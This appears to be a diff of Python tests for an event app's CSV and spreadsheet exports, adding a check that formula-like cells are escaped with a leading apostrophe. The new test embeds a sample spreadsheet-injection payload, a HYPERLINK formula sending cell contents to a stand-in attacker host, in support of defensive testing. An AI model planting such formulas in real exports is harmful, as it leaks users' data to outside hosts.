@@ -208,7 +208,7 @@ def test_delegates_file_holds_contact_details_but_no_secrets(organiser_client, e
     assert row["languages"] == "kk;ru"
     assert row["target_countries"] == "CN;UZ"
     assert row["contact_email"] == person.contact_email
-    assert row["phone"] == "+7 701 555 0101"
+    assert row["phone"] == "'+7 701 555 0101"  # marked as text for spreadsheets
     assert row["delegation_code"] == "kz-gov"
     assert (row["public_listing"], row["role"], row["status"]) == ("yes", "business", "approved")
     person.user.refresh_from_db()
@@ -236,6 +236,19 @@ def test_a_formula_written_by_a_delegate_stays_text(organiser_client, event) -> 
     header, row = sheet.iter_rows()
     cell = row[[c.value for c in header].index("title")]
     assert (cell.value, cell.data_type) == (formula, "s")
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_begin_with_an_apostrophe(
+    organiser_client, event
+) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    organisation = OrganisationFactory(event=event, code="f1")
+    OpportunityFactory(organisation=organisation, title=formula)
+    ParticipantFactory(event=event, organisation=organisation, phone="+7 701 555 0101")
+    opportunities = _records(_download(organiser_client, event, "opportunities"))
+    assert [r["title"] for r in opportunities] == ["'" + formula]
+    delegates = _records(_download(organiser_client, event, "delegates"))
+    assert [r["phone"] for r in delegates if r["organisation_code"] == "f1"] == ["'+7 701 555 0101"]
 
 
 def test_control_characters_are_left_out(organiser_client, event) -> None:
